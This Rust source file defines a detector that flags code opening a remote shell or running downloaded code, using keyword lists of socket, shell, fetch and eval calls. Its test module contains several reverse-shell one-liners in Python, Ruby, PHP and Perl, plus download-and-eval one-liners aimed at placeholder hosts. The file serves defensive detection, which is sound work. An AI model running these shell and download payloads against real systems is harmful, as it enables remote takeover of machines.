//! Code that joins a shell to a connection, or runs what it fetches: told by the calls it cannot do without, in languages
//! that are read and in those that are not. What is not found here is not harmless, only not told apart.

/// What unread code does with another machine.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Remote {
    /// Gives it a shell.
    Shell,
    /// Runs what it answers.
    Download,
}

impl Remote {
    /// The language of [`Object::Code`](crate::action::Object::Code) that stands for it.
    #[must_use]
    pub fn language(self) -> &'static str {
        match self {
            Remote::Shell => "remote-shell",
            Remote::Download => "downloaded",
        }
    }
}

/// Calls that open a connection.
const CONNECTS: &[&str] = &[
    ".connect(",
    "create_connection(",
    "fsockopen(",
    "TCPSocket",
    "IO::Socket",
    "net.connect(",
    "net.createConnection(",
    "net.Socket",
    "/inet/tcp/",
    "sockaddr_in",
    "socket.tcp",
    "connect(S",
    "stream_socket_client(",
    "TcpClient",
];

/// Words that start a shell.
const SHELLS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "/bin/dash",
    "sh -i",
    "bash -i",
    "\"sh\"",
    "'sh'",
    "\"bash\"",
    "'bash'",
    "pty.spawn",
    "cmd.exe",
    "powershell",
];

/// Calls that fetch a URL.
const FETCHES: &[&str] = &[
    "urlopen(",
    "requests.get(",
    "requests.post(",
    "httpx.get(",
    "http.client",
    "fetch(",
    "http.get(",
    "https.get(",
    "axios",
    "LWP::",
    "HTTP::Tiny",
    "Net::HTTP",
    "open-uri",
    "URI.open(",
    "file_get_contents(\"http",
    "file_get_contents('http",
    "curl_exec(",
    "getresponse(",
];

/// Calls that read what a connection sends.
const RECEIVES: &[&str] =
    &["recv(", "getline", "while<>", "while(<", "readline(", ".on('data'", ".on(\"data\"", ".gets"];

/// Calls that evaluate text as code of their own language.
const EVALUATES: &[&str] = &["exec(", "eval(", "eval ", "Function(", "instance_eval", "vm.run", "exec "];

/// Calls that hand text to a shell.
const COMMANDS: &[&str] = &[
    "system(",
    "popen(",
    "subprocess.",
    "execSync(",
    "shell_exec(",
    "passthru(",
    "system$",
    "system $",
    "getoutput(",
    "|&",
    "`",
];

/// Names of this machine: what they answer is no other's.
const HERE: &[&str] = &["localhost", "127.0.0.1", "[::1]"];

/// What the code does with another machine, where its calls tell.
#[must_use]
pub fn remote(text: &[u8]) -> Option<Remote> {
    if any(text, HERE) {
        return None;
    }
    if any(text, CONNECTS) {
        let obeys = any(text, RECEIVES) && (calls(text, EVALUATES, true) || calls(text, COMMANDS, true));
        return (any(text, SHELLS) || obeys).then_some(Remote::Shell);
    }
    let statement = |text: &[u8]| any(text, FETCHES) && calls(text, COMMANDS, false);
    let runs = any(text, FETCHES)
        && (calls(text, EVALUATES, true) || text.split(|byte| matches!(byte, b';' | b'\n')).any(statement));
    runs.then_some(Remote::Download)
}

fn any(text: &[u8], words: &[&str]) -> bool {
    words.iter().any(|word| text.windows(word.len()).any(|window| window == word.as_bytes()))
}

/// Whether one of these is called by its bare name. `given`: with more than a constant.
fn calls(text: &[u8], words: &[&str], given: bool) -> bool {
    words.iter().any(|word| {
        text.windows(word.len()).enumerate().any(|(at, window)| {
            let bare = at.checked_sub(1).and_then(|before| text.get(before)).is_none_or(|before| {
                !(before.is_ascii_alphanumeric() || matches!(before, b'_' | b'.')) || COMMANDS.contains(word)
            });
            let constant = matches!(text.get(at + word.len()), Some(b'\'' | b'"' | b'[' | b')'));
            window == word.as_bytes() && bare && !(given && constant)
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shells_on_connections_and_downloads_that_run_are_told() {
        for (code, want) in [
            (
                r#"s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])"#,
                Some(Remote::Shell),
            ),
            (r#"f=TCPSocket.open("h",1).to_i;exec sprintf("/bin/sh -i <&%d",f)"#, Some(Remote::Shell)),
            (r#"$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");"#, Some(Remote::Shell)),
            (r#"$c=new IO::Socket::INET(PeerAddr,"h:1");system$_ while<>;"#, Some(Remote::Shell)),
            ("s=socket.create_connection(('h',1))\nwhile 1: os.popen(s.recv(99).decode())", Some(Remote::Shell)),
            ("import urllib.request as u;exec(u.urlopen('http://x').read())", Some(Remote::Download)),
            ("import os;os.system(urllib.request.urlopen('http://x').read())", Some(Remote::Download)),
            ("fetch('http://x').then(r=>r.text()).then(t=>eval(t))", Some(Remote::Download)),
            ("require 'open-uri'; eval URI.open('http://x').read", Some(Remote::Download)),
            ("import socket; print(socket.gethostname())", None),
            ("import requests; print(requests.get('http://x').json())", None),
            ("import requests, subprocess; subprocess.run(['ls'])\nrequests.get('http://x')", None),
            ("fetch('http://x').then(t => /a(b)/.exec(t))", None),
            ("p=subprocess.Popen(['./server']);s=socket.create_connection(('localhost',1));print(s.recv(9))", None),
            ("conn = sqlite3.connect('x.db'); conn.execute('select 1')", None),
            ("conn = psycopg2.connect(url); cur.execute(sql)", None),
        ] {
            assert_eq!(remote(code.as_bytes()), want, "{code}");
        }
    }
}
